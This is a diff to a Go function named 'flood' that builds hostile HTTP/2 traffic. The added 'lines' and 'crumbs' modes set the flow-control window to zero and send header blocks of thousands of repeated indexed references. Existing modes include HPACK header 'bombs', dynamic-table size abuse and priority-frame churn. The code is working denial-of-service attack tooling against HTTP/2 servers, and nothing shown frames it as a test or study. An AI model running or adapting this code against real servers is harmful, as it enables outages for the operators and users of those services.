@@ -48,10 +48,22 @@ func flood(to, kind string, count int) {
 	entry = append(entry, 0x40, 1, 'x', 0x7f, 0xa1, 0x1e)
 	entry = append(entry, bytes.Repeat([]byte{'y'}, 4000)...)
 	bomb := append([]byte{0x82, 0x86, 0x84, 0x01, byte(len(to))}, to...)
+	short := bytes.Clone(bomb)
 	bomb = append(bomb, bytes.Repeat([]byte{0x80 | 62}, 16000)...)
+	// A line in each byte, and none of them says anything.
+	name := append(bytes.Clone(head), 0x40, 1, 'a', 0)
+	lines := 15800
+	if kind == "crumbs" {
+		lines = 500
+	}
+	crumbs := bytes.Repeat([]byte{0x80 | 62}, lines)
+	short = append(short, crumbs...)
 	switch kind {
 	case "bomb":
 		framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: entry, EndStream: true, EndHeaders: true})
+	case "lines", "crumbs":
+		framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: name, EndStream: true, EndHeaders: true})
 	case "table":
 		framer.ReadMetaHeaders.SetAllowedMaxDynamicTableSize(1<<32 - 1)
 	case "zero-window":
@@ -99,6 +111,12 @@ func flood(to, kind string, count int) {
 			}
 		case "bomb":
 			err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream + 2, BlockFragment: bomb, EndStream: true, EndHeaders: true})
+		case "lines":
+			err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream + 2, BlockFragment: short, EndHeaders: true})
+		case "crumbs":
+			// As many behind it, which wait for the end of its answer.
+			framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream + 2, BlockFragment: short, EndHeaders: true})
+			err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream + 2, BlockFragment: crumbs, EndStream: true, EndHeaders: true})
 		case "priority":
 			on := http2.PriorityParam{StreamDep: stream + 2, Weight: uint8(i), Exclusive: i%2 == 0}
 			err = framer.WritePriority(stream, on)
